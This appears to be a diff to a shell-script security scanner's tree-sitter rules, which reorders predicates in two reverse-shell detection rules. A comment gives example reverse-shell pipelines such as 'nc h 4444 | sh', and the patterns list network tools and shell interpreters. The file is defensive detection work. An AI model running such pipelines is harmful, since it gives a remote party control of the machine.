@@ -29,8 +29,8 @@
 
 ; nc h 4444 | sh, telnet h 23 | /bin/bash | telnet h 24
 ((pipeline (_) @src [(command) (redirected_statement) (subshell (command) @sink) (compound_statement (command) @sink)] @sink) @finding
- (#contains-call? @src "nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|pwncat|cryptcat|telnet|socat|openssl")
  (#resolves-to? @sink "((ba|da|z|k|mk|c|tc|a|y|po|pdk)?sh|fish|source|\\.|python[0-9.]*|pypy[0-9.]*|perl[0-9.]*|ruby[0-9.]*|node|nodejs|php[0-9.]*|lua[0-9.]*|luajit|tclsh[0-9.]*|Rscript) -")
+ (#contains-call? @src "nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|pwncat|cryptcat|telnet|socat|openssl")
  (#set! id "sh-network-shell")
  (#set! severity "high")
  (#set! message "runs what comes from the network in a shell (a reverse shell): whoever is at the other end controls the machine"))
@@ -40,8 +40,8 @@
 ((pipeline
    [(command) (redirected_statement) (redirected_statement body: (pipeline (command) @sink))] @sink
    (_) @dst) @finding
- (#contains-call? @dst "nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|pwncat|cryptcat|telnet|socat|openssl")
  (#resolves-to? @sink "((ba|da|z|k|mk|c|tc|a|y|po|pdk)?sh|fish|source|\\.|python[0-9.]*|pypy[0-9.]*|perl[0-9.]*|ruby[0-9.]*|node|nodejs|php[0-9.]*|lua[0-9.]*|luajit|tclsh[0-9.]*|Rscript) -")
+ (#contains-call? @dst "nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|pwncat|cryptcat|telnet|socat|openssl")
  (#set! id "sh-network-shell")
  (#set! severity "high")
  (#set! message "sends a shell's output to the network (a reverse shell): whoever is at the other end controls the machine"))
